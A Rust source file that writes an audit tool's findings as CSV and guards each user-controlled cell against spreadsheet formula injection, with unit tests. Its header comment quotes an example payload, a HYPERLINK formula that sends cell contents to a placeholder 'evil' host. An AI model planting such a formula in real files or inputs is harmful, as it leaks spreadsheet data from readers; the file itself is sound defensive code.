//! The CSV report (RFC 4180): one row per result, for the readers who open
//! spreadsheets.
//!
//! A spreadsheet evaluates a cell that starts with `=`, `+`, `-` or `@` as a
//! formula, and a resource name or tag is user-controlled: a bucket tagged
//! `=HYPERLINK("https://evil/?"&A1)` would run in the reader's spreadsheet
//! (CWE-1236, OWASP "CSV Injection"). Such cells get a leading `'`, which
//! spreadsheets show as text and hide.

use super::escape;
use crate::report::{Finding, Report};

/// The header row; [`row`] gives the cells in this order.
pub const COLUMNS: [&str; 17] = [
    "rule",
    "title",
    "severity",
    "category",
    "status",
    "account",
    "region",
    "resource_type",
    "resource_id",
    "arn",
    "address",
    "file",
    "line",
    "message",
    "remediation",
    "waiver_reason",
    "waiver_expires",
];

pub fn render(report: &Report) -> String {
    let mut bytes = Vec::new();
    write(report, &mut bytes).expect("writing to memory cannot fail");
    String::from_utf8(bytes).expect("every cell is UTF-8")
}

/// The report as [`render`] gives it, written row by row: a large audit's
/// hundreds of thousands of rows are never held whole.
pub fn write(report: &Report, out: impl std::io::Write) -> std::io::Result<()> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out);
    writer.write_record(COLUMNS)?;
    for finding in &report.results {
        writer.write_record(row(finding))?;
    }
    writer.flush()
}

fn row(finding: &Finding) -> [String; COLUMNS.len()] {
    let resource = &finding.resource;
    let location = finding.location.as_ref();
    let waiver = finding.waiver.as_ref();
    [
        cell(&finding.rule),
        cell(&finding.title),
        finding.severity.to_string(),
        cell(&finding.category),
        finding.status.to_string(),
        cell(&resource.account),
        cell(&resource.region),
        cell(&resource.resource_type),
        cell(&resource.id),
        cell(&resource.arn),
        cell(resource.address.as_deref().unwrap_or_default()),
        cell(location.map_or("", |l| l.file.as_str())),
        location.map(|l| l.line.to_string()).unwrap_or_default(),
        cell(&finding.message),
        cell(&finding.remediation),
        cell(waiver.map_or("", |w| w.reason.as_str())),
        waiver
            .and_then(|w| w.expires)
            .map(|date| date.to_string())
            .unwrap_or_default(),
    ]
}

/// User-controlled text as a cell: without terminal escapes or invisible
/// characters (a CSV is also read with `cat`), line breaks kept (quoting
/// holds them), and never a formula. A tab or carriage return before the
/// trigger is no shield: spreadsheets skip leading blanks.
fn cell(text: &str) -> String {
    let text = escape::multi_line(text);
    if text.trim_start().starts_with(['=', '+', '-', '@']) {
        format!("'{text}")
    } else {
        text.into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " \n=1"] {
            assert!(cell(formula).starts_with('\''), "{formula:?}");
        }
        assert_eq!(cell("db-1=2"), "db-1=2");
        assert_eq!(cell("a,\"b\"\nc"), "a,\"b\"\nc");
        assert_eq!(cell("x\u{1b}[31my"), "xy");
    }
}
